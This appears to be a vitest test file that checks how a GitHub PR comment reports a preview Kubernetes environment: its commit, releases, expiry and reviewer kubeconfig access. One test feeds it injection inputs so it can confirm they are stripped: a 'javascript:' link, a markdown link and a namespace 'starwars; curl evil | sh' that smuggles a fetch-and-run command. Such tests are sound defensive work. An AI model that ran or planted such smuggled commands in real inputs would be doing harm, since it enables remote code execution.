import { describe, expect, it } from 'vitest';
import { builtCommit } from '../../src/actions/github-status.js';
import type { TwinReport } from '../../src/github/report.js';
import { destroyedTwinReport, platformTwinReport, twinCommentBody } from '../../src/github/report.js';
import type { ReviewerAccessReport } from '../../src/github/report-preview.js';
import { releasesOf } from '../../src/github/report-preview.js';
import type { ResolvedTwin } from '../../src/spec/environment.js';
import type { PlatformReport } from '../../src/twin/platform.js';

/** What a preview's comment tells a reviewer: the commit, the releases, the expiry, and how to get in. */

const SHA = '3f9c2ab41d5e6f708192a3b4c5d6e7f8091a2b3c';
const UPDATED = new Date('2026-03-10T12:00:00.000Z');
const ACCESS: ReviewerAccessReport = {
  repository: 'edge-lab/platform',
  runId: '9001',
  artifact: 'pr-7-reviewer-kubeconfig',
  file: 'pr-7-reviewer.kubeconfig',
  contexts: ['east', 'west'],
  namespaces: ['starwars', 'bookinfo'],
  expiresAt: '2026-03-13T11:58:30.000Z',
};

function report(overrides: Partial<TwinReport> = {}): TwinReport {
  return {
    twin: 'pr-7',
    environment: 'preview',
    state: 'ready',
    slot: 3,
    clusters: [{ name: 'east', apiUrl: 'https://10.20.3.10:6443', nodes: 2, nodesReady: 2 }],
    stages: [],
    checks: [],
    commit: { sha: SHA, url: `https://github.com/edge-lab/platform/commit/${SHA}` },
    releases: { talos: 'v1.13.9', kubernetes: '1.36.3', cilium: '1.20.0', rook: 'v1.18.8' },
    expiry: { kind: 'ttl', at: '2026-03-13T12:00:00.000Z', ttlHours: 72, keepLabel: 'keep' },
    updatedAt: UPDATED,
    ...overrides,
  };
}

describe('the preview part of the PR comment', () => {
  it('names the commit (short, linked), the releases and when the preview goes', () => {
    const body = twinCommentBody(report());
    expect(body).toContain(
      `\n\nBuilt from [\`3f9c2ab\`](https://github.com/edge-lab/platform/commit/${SHA}) · Talos v1.13.9 · Kubernetes 1.36.3 · Cilium 1.20.0 · Rook v1.18.8\n\n` +
        'Destroyed after 2026-03-13 12:00 UTC unless pushed again or labelled "keep" (environments.preview.ttlHours: 72 h from the last apply).\n',
    );
  });

  it('says how to reach it: the endpoints, and the artifact with the two commands when a kubeconfig was made', () => {
    const body = twinCommentBody(report({ reviewerAccess: ACCESS }));
    const table = body.indexOf('| east |');
    const reach = body.indexOf('**How to reach it**');
    expect(reach).toBeGreaterThan(table);
    expect(body.slice(reach)).toContain(
      "Each cluster's Kubernetes API is in the table above; its admin credentials stay with the lab runners.\n\n" +
        'A read-only kubeconfig for namespace(s) `starwars`, `bookinfo` (contexts `east`, `west`; its tokens work until ' +
        "2026-03-13 11:58 UTC) is artifact `pr-7-reviewer-kubeconfig` of run 9001, for anyone who may download this repository's artifacts:\n\n" +
        '```sh\ngh run download 9001 -R edge-lab/platform -n pr-7-reviewer-kubeconfig\n' +
        'kubectl --kubeconfig pr-7-reviewer.kubeconfig --context east get pods -n starwars\n```',
    );
    const without = twinCommentBody(report());
    expect(without).toContain('**How to reach it**');
    expect(without).not.toContain('gh run download');
  });

  it('leaves out what does not look like a name: no markdown, link or command can be smuggled in', () => {
    const body = twinCommentBody(
      report({
        commit: { sha: SHA, url: 'javascript:alert(1)' },
        releases: { talos: 'v1.13.9 [x](https://evil)', kubernetes: '1.36.3', cilium: '1.20.0' },
        reviewerAccess: { ...ACCESS, namespaces: ['starwars; curl evil | sh'] },
      }),
    );
    expect(body).toContain('Built from `3f9c2ab` · Kubernetes 1.36.3 · Cilium 1.20.0\n');
    expect(body).not.toMatch(/evil|javascript|gh run download/);
  });

  it('shows none of it for a destroyed twin, nor an expiry for production', () => {
    const destroyed = twinCommentBody({
      ...destroyedTwinReport('pr-7', 'preview', { updatedAt: UPDATED }),
      commit: report().commit!,
    });
    expect(destroyed).not.toMatch(/Built from|How to reach it/);
  });

  it('lists Rook only when it is enabled', () => {
    const spec = {
      talos: { version: 'v1.13.9', kubernetesVersion: '1.36.3' },
      cilium: { version: '1.20.0' },
      addons: { rook: { enabled: false, version: 'v1.18.8' } },
      environments: { preview: { keepLabel: 'keep-me' } },
    };
    const twin = { twin: 'pr-7', ttlHours: 8, spec } as unknown as ResolvedTwin;
    expect(releasesOf(twin.spec)).toEqual({ talos: 'v1.13.9', kubernetes: '1.36.3', cilium: '1.20.0' });
  });

  it("mesh and day-2 keep the apply's expiry; the reviewer kubeconfig is only this run's", () => {
    const platform: PlatformReport = { mesh: [], ceph: [], checks: [] };
    const step = { twin: 'pr-7', environment: 'preview', clusters: [], records: [], platform };
    const previous = report({ reviewerAccess: ACCESS });
    const next = platformTwinReport(previous, { ...step, releases: previous.releases! });
    expect(next.expiry).toEqual(previous.expiry);
    expect(next.releases).toEqual(previous.releases);
    expect(next.reviewerAccess).toBeUndefined();
    expect(platformTwinReport(previous, { ...step, reviewerAccess: ACCESS }).reviewerAccess).toEqual(ACCESS);
  });
});

describe('builtCommit', () => {
  it("takes a pull request's head, not its test-merge commit; else the pushed commit; never something else", () => {
    const repositoryUrl = 'https://github.com/edge-lab/platform';
    const merge = 'a'.repeat(40);
    expect(builtCommit({ pull_request: { head: { sha: SHA } } }, merge, repositoryUrl)).toEqual({
      commit: { sha: SHA, url: `${repositoryUrl}/commit/${SHA}` },
    });
    expect(builtCommit({}, merge, undefined)).toEqual({ commit: { sha: merge } });
    expect(builtCommit({ pull_request: { head: { sha: 'main' } } }, merge, repositoryUrl)).toEqual({});
    expect(builtCommit({}, undefined, repositoryUrl)).toEqual({});
  });
});
